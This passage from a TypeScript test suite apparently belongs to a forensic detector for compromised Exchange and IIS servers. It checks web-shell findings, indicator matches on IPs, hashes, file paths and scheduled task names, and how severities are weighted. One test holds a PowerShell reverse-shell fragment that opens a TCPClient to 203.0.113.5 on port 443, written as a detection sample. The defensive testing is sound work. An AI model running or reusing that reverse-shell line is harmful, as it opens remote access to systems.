      fields: iis("GET", `/aspnet_client/${name}.aspx`, "302"),
    }));
    const found = detect([...names, { kind: log, fields: iis("GET", "/aspnet_client/h.aspx", "200") }]).findings;
    expect(byName(found).map(({ ruleName, severity, count, entity }) => [ruleName, severity, count, entity])).toEqual([
      ["iis-webshell-client-present", "high", 1, "/aspnet_client/h.aspx"],
      ["iis-webshell-client-probe", "low", 5, "198.51.100.66"],
      ["iis-webshell-scanner", "low", 2, "198.51.100.66"],
    ]);
  });
});

describe("Indicators", () => {
  const sightings = (kind: string, fields: Fields) =>
    detect([{ kind, fields }]).sightings.map(({ type, value, cluster, strength }) => [type, value, cluster, strength]);

  it("see a listed address and keep its cluster and strength", () => {
    expect(sightings(log, iis("GET", "/owa/", "200", { "c-ip": "165.232.154.116" }))).toEqual([
      ["ipv4", "165.232.154.116", "UNC2639", "stated"],
    ]);
    expect(sightings(log, iis("GET", "/owa/", "200", { "X-Forwarded-For": "10.0.0.1,+182.18.152.105:4433" }))).toEqual([
      ["ipv4", "182.18.152.105", "UNC2639", "stated"],
    ]);
    expect(sightings(log, iis("GET", "/owa/", "200", { "c-ip": "165.232.154.11" }))).toEqual([]);
  });

  it("count a user agent only in a POST to a page of Exchange, and never as a finding", () => {
    const agent = {
      "cs(User-Agent)":
        "Mozilla/5.0+(X11;+Linux+x86_64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/51.0.2704.103+Safari/537.36",
    };
    expect(sightings(log, iis("POST", "/owa/x", "200", agent))).toHaveLength(1);
    expect(sightings(log, iis("GET", "/owa/x", "200", agent))).toEqual([]);
    expect(detect([{ kind: log, fields: iis("POST", "/owa/x", "200", agent) }]).findings).toEqual([]);
  });

  it("mind the method of a URI and the place of a file name", () => {
    expect(sightings(log, iis("POST", "/ecp/default.flt", "200"))).toContainEqual([
      "uri",
      "POST /ecp/default.flt",
      "unattributed",
      null,
    ]);
    expect(sightings(log, iis("GET", "/ecp/default.flt", "200"))).toEqual([]);
    expect(sightings(log, iis("GET", "/aspnet_client/shell.aspx", "302")).map(([type]) => type)).toContain("filename");
    expect(sightings(log, iis("GET", "/intranet/shell.aspx", "302"))).toEqual([]);
  });

  it("see a known hash of a file, in a critical finding with the cluster's name in the sighting", () => {
    const detector = createDetector(knowledge, { sourceId: "evidence-2", server: "EX01" });
    detector.file({
      path: "inetpub/wwwroot/aspnet_client/help.aspx",
      md5: "4B3039CF227C611C45D2242D1228A121",
      yara: [],
    });
    const { findings, sightings: seen } = detector.result();
    expect(findings).toContainEqual(
      expect.objectContaining({
        ruleName: "indicator-md5",
        severity: "critical",
        proposes: "implanted",
        entity: "inetpub/wwwroot/aspnet_client/help.aspx",
      }),
    );
    expect(seen).toContainEqual(expect.objectContaining({ cluster: "UNC2640", strength: "stated", type: "md5" }));
  });

  it.each([
    "FrontEnd/HttpProxy/owa/auth/OutlookZH.aspx",
    "V15/FrontEnd/HttpProxy/owa/auth/OutlookZH.aspx",
    "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\OutlookZH.aspx",
  ])("see a known path wherever an archive begins, once, with every list that names it: %s", (path) => {
    const detector = createDetector(knowledge, { sourceId: "evidence-2", server: "EX01" });
    detector.file({ path, yara: [] });
    const findings = detector.result().findings.filter(({ ruleName }) => ruleName === "indicator-filepath");
    expect(findings).toEqual([
      expect.objectContaining({ count: 1, indicatorIds: ["ioc-097", "ioc-146"], proposes: "implanted" }),
    ]);
    expect(findings[0]?.samples[0]?.why.map(({ test }) => test)).toEqual([
      "is the indicator ioc-097 (filepath)",
      "is the indicator ioc-146 (filepath)",
    ]);
  });

  it("see a known path below the root of the web server", () => {
    const detector = createDetector(knowledge, { sourceId: "evidence-2", server: "EX01" });
    detector.file({ path: "inetpub/wwwroot/aspnet_client/supp0rt.aspx", yara: [] });
    expect(detector.result().findings.map(({ ruleName }) => ruleName)).toContain("indicator-filepath");
  });

  it("see hash, path and place of a web shell in a listing, each in a finding of its own, with the time it was written", () => {
    const at = Date.parse("2021-03-03T06:59:22Z");
    const sha256 = "695D4A81CE526A136351CD8EEBA5C452D0AB79438FE467922A0BD61DB87CEF93";
    const fields = listed(`${wwwroot}aspnet_client\\supp0rt.aspx`, { ...bySystem, SHA256: sha256 });
    const { findings, sightings: seen } = detect([{ kind: listing, fields, at }]);
    expect(byName(findings).map(({ ruleName, severity, firstAt }) => [ruleName, severity, firstAt])).toEqual([
      ["indicator-filepath", "high", at],
      ["indicator-filepath-regex", "medium", at],
      ["indicator-sha256", "critical", at],
      ["listing-page-aspnet-client", "high", at],
    ]);
    expect(findings.find(({ ruleName }) => ruleName === "listing-page-aspnet-client")).toMatchObject({
      entity: `${wwwroot}aspnet_client\\supp0rt.aspx`,
      proposes: "implanted",
    });
    expect(seen.map(({ type }) => type)).toEqual(expect.arrayContaining(["sha256", "filepath", "filepath_regex"]));
  });

  it("count a socket client only as part of the reverse shell it is listed for", () => {
    const shell =
      "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.5',443);$s = $c.GetStream();$s.Write($b,0,9)";
    const seen = (command: string) =>
      sightings("process", { CommandLine: command }).filter(([, value]) => value?.includes("TCPClient"));
    expect(seen(shell)).toHaveLength(1);
    expect(seen("(New-Object Net.Sockets.TCPClient).Connect('ex01', 443)")).toEqual([]);
  });

  it("see the name of a task wherever it is listed, and only the whole name", () => {
    const seen = (fields: Fields) => sightings("scheduled_task", fields).filter(([type]) => type === "scheduled_task");
    expect(seen({ TaskName: "\\Winnet" })).toEqual([["scheduled_task", "Winnet", "DLTminer", "overlap-stated"]]);
    expect(seen({ TaskName: "\\Microsoft\\Windows\\WinnetUpdate" })).toEqual([]);
    const { findings } = detect([{ kind: "autorun", fields: { TaskName: "\\Winnet", CommandLine: "calc.exe" } }]);
    expect(findings.map(({ ruleName, severity, proposes }) => [ruleName, severity, proposes])).toEqual([
      ["indicator-scheduled-task", "high", null],
    ]);
  });

  it("keep the weight of each listed address, whichever comes first", () => {
    const rows = ["103.77.192.219", "165.232.154.116"].map((ip) => ({
      kind: log,
      fields: iis("GET", "/owa/", "200", { "c-ip": ip }),
    }));
    for (const order of [rows, rows.toReversed()])
      expect(
        detect(order)
          .findings.map(({ entity, severity }) => [entity, severity])
          .toSorted(([left = ""], [right = ""]) => String(left).localeCompare(String(right))),
      ).toEqual([
        ["103.77.192.219", "medium"],
        ["165.232.154.116", "high"],
      ]);
  });

  it("see a listed address in the output of CHIRP with its port, and stay quiet about it", () => {
    const fields = chirped({ Part: "network", RemoteAddress: "165.232.154.116:443" });
    const { findings, sightings: seen } = detect([{ kind: "chirp_match", fields, at: null }]);
    expect(seen).toMatchObject([{ type: "ipv4", value: "165.232.154.116", cluster: "UNC2639" }]);
    expect(byName(findings).map(({ ruleName, severity, proposes }) => [ruleName, severity, proposes])).toEqual([
      ["chirp-network-match", "low", null],
      ["indicator-ipv4", "low", null],
    ]);
  });

  it("name those that wait for other kinds of evidence", () => {
    expect(
      knowledge.indicators.waiting.every(({ type }) =>
        [
          "commandline_pattern",
          "process_tree",
          "file_write",
          "archive_content",
          "registry",
          "event",
          "file_content",
        ].includes(type),
      ),
    ).toBe(true);
  });
});
